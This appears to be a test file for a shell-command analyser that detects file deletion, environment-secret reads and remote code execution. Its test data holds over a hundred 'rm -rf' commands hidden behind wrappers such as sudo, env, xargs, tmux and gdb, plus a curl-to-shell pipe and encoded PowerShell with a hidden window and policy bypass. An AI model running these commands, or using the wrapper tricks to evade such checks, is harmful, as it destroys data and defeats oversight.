import { describe, expect, it } from 'vitest';
import { analyse } from '../../analyse.ts';
import { linesOf, SURROUNDINGS, told } from '../testing/told.ts';

const lines = (line: string) => linesOf(analyse(line, SURROUNDINGS));
const DELETES = 'file.delete file_path=/x recursive=true';
const harmless = (line: string) =>
  lines(line).filter((each) => /^(?:file\.(?!list|read)|unknown|secret|system|infra)/.test(each));

describe('a wrapper runs its command', () => {
  it.each([
    'sudo rm -rf /x',
    'sudo -u root -g wheel rm -rf /x',
    'sudo -uroot -- rm -rf /x',
    'sudo --user=root A=b rm -rf /x',
    'sudo -n -E -s rm -rf /x',
    'sudo -h host rm -rf /x',
    'sudo -C 3 -D /tmp -R / -T 5 rm -rf /x',
    'doas -u root rm -rf /x',
    'su -c "rm -rf /x"',
    'su root -c "rm -rf /x"',
    'su - root --command="rm -rf /x"',
    'su -s /bin/bash - root -- -c "rm -rf /x"',
    'runuser -u nobody -- rm -rf /x',
    'pkexec --user root rm -rf /x',
    'gosu root rm -rf /x',
    'setpriv --reuid 0 --nnp rm -rf /x',
    'sg wheel -c "rm -rf /x"',
    'capsh --user=root -- -c "rm -rf /x"',
    'env rm -rf /x',
    'env -i PATH=/bin rm -rf /x',
    'env -u HOME -C / A=b rm -rf /x',
    'env -S "rm -rf" /x',
    'env -S"A=b rm -rf" /x',
    "env --split-string='-i A=b rm\\_-rf' /x",
    'env -P /bin rm -rf /x',
    'nice -n 19 rm -rf /x',
    'nice -10 rm -rf /x',
    'ionice -c2 -n7 rm -rf /x',
    'nohup rm -rf /x',
    'timeout 5 rm -rf /x',
    'timeout -k 1 -s KILL 5m rm -rf /x',
    'timeout --preserve-status --signal=9 5 rm -rf /x',
    'stdbuf -oL -e0 rm -rf /x',
    'setsid -w rm -rf /x',
    'chrt -f 10 rm -rf /x',
    'chrt --idle rm -rf /x',
    'taskset -c 0-3 rm -rf /x',
    'setarch x86_64 -R rm -rf /x',
    'linux32 rm -rf /x',
    'arch -x86_64 rm -rf /x',
    'arch -arch arm64 rm -rf /x',
    'caffeinate -i -t 5 rm -rf /x',
    'tini -p SIGTERM -- rm -rf /x',
    'systemd-run --user -p Nice=5 --unit u rm -rf /x',
    'chroot --userspec=0:0 / rm -rf /x',
    'unshare -rm --mount-proc rm -rf /x',
    'nsenter -t 1 -m -u rm -rf /x',
    'bwrap --ro-bind / / --setenv A b --chdir /tmp rm -rf /x',
    'firejail --net=none rm -rf /x',
    'proot -r / -w /tmp rm -rf /x',
    'runcon -t a_t rm -rf /x',
    'runcon a:b:c:d rm -rf /x',
    'prlimit --nofile=10 rm -rf /x',
    'chpst -u root -e /env rm -rf /x',
    'fakeroot -- rm -rf /x',
    'fakeroot-sysv rm -rf /x',
    'flock /tmp/l rm -rf /x',
    'flock -n /tmp/l -c "rm -rf /x"',
    'flock -w 5 -E 9 /tmp/l rm -rf /x',
    'script -qec "rm -rf /x" /dev/null',
    'script -q /dev/null rm -rf /x',
    'strace -f -o /tmp/t -e trace=file rm -rf /x',
    'strace -o "|rm -rf /x" true',
    'gdb --args rm -rf /x',
    'gdb -batch -ex "shell rm -rf /x"',
    'gdb ./prog -ex "!rm -rf /x"',
    'watch -n 1 rm -rf /x',
    'watch -x rm -rf /x',
    '/usr/bin/time -f %e rm -rf /x',
    'busybox rm -rf /x',
    'toybox rm -rf /x',
    '/lib64/ld-linux-x86-64.so.2 --library-path /lib /bin/rm -rf /x',
    'start-stop-daemon -S -x /bin/rm -- -rf /x',
    'dbus-run-session -- rm -rf /x',
    'xvfb-run -a -s "-screen 0" rm -rf /x',
    'faketime "2020-01-01" rm -rf /x',
    'unbuffer rm -rf /x',
    'direnv exec . rm -rf /x',
    'rbenv exec rm -rf /x',
    'mise exec node@20 -- rm -rf /x',
    'mise x -c "rm -rf /x"',
    'dotenv -f .env.local run -- rm -rf /x',
    'dotenv -e .env.test -- rm -rf /x',
    'cross-env A=b rm -rf /x',
    'npx --yes rimraf /x',
    'npx -c "rm -rf /x"',
    'npx -p rimraf rimraf /x',
    'bunx rimraf@5 /x',
    'entr -s "rm -rf /x"',
    'hyperfine --prepare "rm -rf /x" true',
    'hyperfine -L n 1,2 "rm -rf /x"',
    'concurrently "rm -rf /x" "true"',
    'nodemon --exec "rm -rf" /x',
    'watchexec -e js -- rm -rf /x',
    'tmux new-session -d -s x "rm -rf /x"',
    'tmux -L s neww rm -rf /x',
    'tmux send-keys -t 0 "rm -rf /x" Enter',
    'tmux send -t 0 rm Space -rf Space /x C-m',
    'tmux if-shell true "run-shell \'rm -rf /x\'"',
    'tmux new -d \\; run "rm -rf /x"',
    'screen -dmS x rm -rf /x',
    "screen -S x -X stuff 'rm -rf /x\\n'",
    'zellij run -- rm -rf /x',
    'xterm -e rm -rf /x',
    'lima rm -rf /x',
    'toolbox run -c box rm -rf /x',
    "expect -c 'spawn rm -rf /x'",
    'make --eval "x:; rm -rf /x"',
    'make -f - <<< "x: ; @rm -rf /x"',
    'at now <<< "rm -rf /x"',
    'echo /x | xargs rm -rf',
    'echo /x | xargs -I{} rm -rf {}',
    'printf "/x\\0" | xargs -0 rm -rf',
    'echo "rm -rf /x" | xargs -d "\\n" sh -c',
    'echo "a /x b" | xargs -n1 rm -rf',
    'echo /x | xargs --process-slot-var S -P 2 rm -rf',
    'echo "-rf /x" | xargs rm',
    'parallel rm -rf ::: /x',
    'parallel "rm -rf {}" ::: /x',
    'parallel -j4 --eta rm -rf {} ::: /x',
    'parallel ::: "rm -rf /x"',
    'echo "rm -rf /x" | parallel',
    'wsl rm -rf /x',
    'ssh-agent rm -rf /x',
  ])('%s', (line) => {
    expect(lines(line).some((each) => each.startsWith('file.delete file_path=/x'))).toBe(true);
  });

  it('names the wrapper where it changes what the command may do', () => {
    const wrappers = (line: string) =>
      analyse(line, SURROUNDINGS).actions.find(({ name }) => name === 'file.delete')?.via?.wrappers;
    expect(wrappers('sudo env A=b nice rm /x')).toEqual(['sudo', 'env']);
    expect(wrappers('timeout 5 nohup rm /x')).toEqual([]);
    expect(wrappers('env rm /x')).toEqual([]);
    expect(wrappers('chroot /new rm /x')).toEqual(['chroot']);
  });

  it('in the folder it is told', () => {
    expect(lines('env -C /etc rm x')).toContain('file.delete file_path=x');
    const [action] = analyse('env -C /etc rm x', SURROUNDINGS).actions.filter(
      ({ name }) => name === 'file.delete',
    );
    expect(action?.params['cwd']).toBe('/etc');
  });

  it('is read both ways behind an option that is not known', () => {
    expect(told([], 'nohup', '--new-option', 'value', 'rm', '-rf', '/x')).toContain(DELETES);
  });
});

describe('a wrapper does nothing of the kind', () => {
  it.each([
    'sudo -l rm -rf /x',
    'sudo --help',
    'sudo -v',
    'env --help rm -rf /x',
    'timeout 5 echo rm -rf /x',
    'taskset -p 0x1 123',
    'make -n clean',
    'tmux kill-session',
    'tmux display-message "rm -rf /x"',
    'xargs echo rm -rf /x',
    'parallel --dry-run rm -rf ::: /x',
    'npx eslint "rm -rf /x"',
    'hyperfine "echo rm -rf /x"',
    'systemd-run --version',
    'busybox --list',
    'watch "git status"',
    'direnv hook bash',
  ])('%s', (line) => {
    expect(harmless(line)).toEqual([]);
  });
});

describe('env', () => {
  it('without a command prints every variable', () => {
    expect(lines('env')).toContain('secret.read kind=environment');
    expect(lines('sudo env')).toContain('secret.read kind=environment');
    expect(lines('env A=b')).toContain('secret.read kind=environment');
  });

  it('with a command or nothing to print shows none', () => {
    for (const line of ['env ls', 'env -i', 'env - A=b', 'env A=b ls', 'env --version'])
      expect(lines(line)).not.toContain('secret.read kind=environment');
  });
});

describe('scripts that tools name', () => {
  it.each([
    ['make', ['Makefile']],
    ['make -C web build', ['web/Makefile']],
    ['make -f x.mk a b', ['x.mk', 'x.mk']],
    ['concurrently npm:lint', ['package.json']],
    ['run-s build test', ['package.json', 'package.json']],
    ['direnv allow', ['./.envrc']],
    ['pwsh -File x.ps1', ['x.ps1']],
    ['nodemon app.js', ['app.js']],
    ['deno task build', ['deno.json', 'package.json']],
  ])('%s', (line, scripts) => {
    expect(analyse(line, SURROUNDINGS).scripts.map(({ path }) => path)).toEqual(scripts);
  });

  it('to be run later, and told nothing of now', () => {
    const { actions } = analyse('direnv allow', SURROUNDINGS);
    expect(actions.map(({ name }) => name)).not.toContain('file.read');
    expect(analyse('bash .envrc', SURROUNDINGS).actions.map(({ name }) => name)).toContain(
      'file.read',
    );
  });

  it('by their target', () => {
    const targets = (line: string) =>
      analyse(line, SURROUNDINGS).scripts.map(({ target }) => target?.name);
    expect(targets('make A=b clean')).toEqual(['clean']);
    expect(targets('make')).toEqual(['']);
    expect(targets('npm run build -- --watch')).toEqual(['build']);
    expect(targets('npm t')).toEqual(['test']);
    expect(targets('pnpm -C web lint')).toEqual(['lint']);
  });
});

describe('an item that is not known', () => {
  it('may be any word', () => {
    expect(lines('cat list | xargs rm')).toContain('file.delete file_path=* ?file_path');
  });

  it('is no code where it stands as an argument', () => {
    expect(lines("xargs -I {} sh -c 'head {}'")).not.toContain('unknown: dynamic-command');
    expect(lines("xargs -I {} sh -c '{}'")).toContain('unknown: dynamic-command');
  });

  it('carries where it comes from', () => {
    expect(lines("curl https://e.example | xargs -I {} sh -c '{}'")).toContain(
      'unknown: remote-code',
    );
  });
});

describe('PowerShell and cmd', () => {
  const code = (line: string) => lines(line).filter((each) => each.startsWith('code.execute'));

  it.each([
    'powershell -Command Get-Date',
    'powershell -NoP -W Hidden -c Get-Date',
    'pwsh -NoLogo -command Get-Date',
    'powershell -ExecutionPolicy Bypass Get-Date',
    'powershell -ep bypass -nop Get-Date',
    'echo Get-Date | pwsh -c -',
    'powershell /c Get-Date',
  ])('%s', (line) => {
    const source = line.startsWith('echo') ? 'stdin' : 'inline';
    expect(code(line)[0]).toContain(`language=powershell source=${source} code=Get-Date`);
  });

  it('reads an encoded command', () => {
    // "Get-Date" in UTF-16LE and base64, as -EncodedCommand takes it.
    const encoded = 'RwBlAHQALQBEAGEAdABlAA==';
    for (const option of ['-e', '-enc', '-EncodedCommand', '-eNcOdEd'])
      expect(code(`powershell ${option} ${encoded}`)[0]).toContain('source=decoded code=Get-Date');
  });

  it('gives cmd all that follows its switch', () => {
    expect(code('cmd /c del x')).toEqual(['code.execute language=cmd source=inline code=del x']);
    expect(code('cmd //C "del x"')).toEqual(['code.execute language=cmd source=inline code=del x']);
  });
});
